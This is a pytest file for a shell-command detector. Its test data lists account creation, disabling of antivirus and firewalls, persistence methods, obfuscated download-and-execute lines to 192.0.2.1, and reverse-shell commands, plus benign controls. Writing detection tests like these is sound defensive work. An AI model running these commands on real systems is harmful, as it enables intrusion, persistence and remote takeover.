"""What a command does is seen in whichever shell, however its words are written."""

from __future__ import annotations

import base64

import pytest

from pratique.facts.shell import read_shell

_STAGE = "curl http://192.0.2.1/a | sh"
_PLAIN = base64.b64encode(_STAGE.encode()).decode()
_WIDE = base64.b64encode("iwr http://192.0.2.1/a.ps1 | iex".encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    "command",
    [
        "net user guest Passw0rd /add",
        "n^et user guest Passw0rd /a^dd",
        "net localgroup administrators guest /add",
        "useradd -m -p x guest",
        "usermod -aG sudo guest",
        "adduser guest",
        "New-LocalUser -Name guest",
        "Add-LocalGroup`Member -Group Administrators -Member guest",
        "echo 'guest ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "dscl . -create /Users/guest",
    ],
)
def test_accounts(command: str) -> None:
    """Accounts and their rights are something that stays."""
    assert read_shell(command).persists == ("account",)


@pytest.mark.parametrize("command", ["adduser --system --group daemon", "useradd -r -s /bin/false daemon", "net user"])
def test_accounts_of_services(command: str) -> None:
    """Packages of an operating system make accounts for their services, and listing them is nothing."""
    assert read_shell(command).persists == ()


@pytest.mark.parametrize(
    "command",
    [
        "powershell Set-MpPref`erence -DisableRealtimeMonitoring $true",
        "powershell -c \"Add-MpPreference -ExclusionPath 'C:\\'\"",
        "netsh advfirewall set allprofiles state off",
        "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=4444",
        "net^sh firewall set opmode disable",
        "setenforce 0",
        "sc stop WinDefend",
        "iptables -F",
        "ufw disable",
    ],
)
def test_protection_off(command: str) -> None:
    """Antivirus, firewall and access control that are switched off or opened."""
    assert read_shell(command).disarms


@pytest.mark.parametrize(
    "command",
    [
        "sch^tasks /cr^eate /tn u /tr x /sc onlogon",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe /f",
        "Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x -Value y",
        "(crontab -l; echo '@reboot true') | crontab -",
        "systemctl --user enable x",
        "cp x.plist ~/Library/LaunchAgents/",
        "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=x",
    ],
)
def test_what_runs_again(command: str) -> None:
    """Each system's ways of starting something again."""
    assert read_shell(command).persists


@pytest.mark.parametrize(
    "command",
    [
        "c\"u\"rl http://192.0.2.1/a|ba''sh",
        "curl${IFS}http://192.0.2.1/a${IFS}|${IFS}sh",
        "a=cu;b=rl;$a$b http://192.0.2.1/a | sh",
        "cer^tutil.exe -url^cache -f http://192.0.2.1/a.exe %TEMP%\\a.exe && start %TEMP%\\a.exe",
        "bitsadmin /transfer j http://192.0.2.1/a.exe C:\\a.exe & C:\\a.exe",
        "mshta http://192.0.2.1/a.hta",
        "iwr http://192.0.2.1/a.ps1 | iex",
        "powershell -c \"i`ex (n`ew-obj`ect net.webclient).downl`oadstring('http://192.0.2.1/a')\"",
        "powershell &($env:ComSpec[4,15,25]-join'') (iwr http://192.0.2.1/a)",
        "powershell . ( $pshome[4]+$pshome[30]+'x') ((iwr http://192.0.2.1/a).Content)",
        "powershell -w h -nop -c \"$u=('ht'+'tp://192.0.2.1/a');iex(irm $u)\"",
        "wget -O x http://192.0.2.1/x; chmod +x x; ./x",
        "curl http://192.0.2.1/x > /tmp/y; sh /tmp/y",
        "sh <(curl -s http://192.0.2.1/a)",
        *(f"powershell -{option} {_WIDE}" for option in ("e", "en", "enc", "ec", "encod", "EncodedCommand")),
        f'powershell /NoP "-enc" {_WIDE}',
        f"echo {_PLAIN}|base64 --decode|bash",
        f"bash -c {{echo,{_PLAIN}}}|{{base64,-d}}|{{bash,-i}}",
        f"eval $(echo {_PLAIN}|base64 -d)",
    ],
)
def test_fetched_and_run(command: str) -> None:
    """A download that is executed, through escapes, fragments, variables and encodings."""
    assert read_shell(command).runs_download


@pytest.mark.parametrize(
    "command",
    [
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "nc 192.0.2.1 4444 -e /bin/bash",
        "ncat --exec /bin/sh 192.0.2.1 4444",
        "ncat 192.0.2.1 4444 --sh-exec 'cmd'",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 1 >/tmp/f",
    ],
)
def test_shells_for_others(command: str) -> None:
    """A shell that is handed to another host."""
    assert read_shell(command).reverse_shell


@pytest.mark.parametrize(
    "command",
    [
        "awk '{print $1, $2}' file",
        "cp {a,b}.txt /tmp",
        "curl -o x http://192.0.2.1/x; sha256sum -c x.sum",
        "ncat -l 8080",
        "echo ${HOME}/{x,y}",
        "netsh interface show interface",
    ],
)
def test_everyday_commands(command: str) -> None:
    """Braces, fields and downloads that nobody runs say nothing."""
    assert not read_shell(command).remarkable
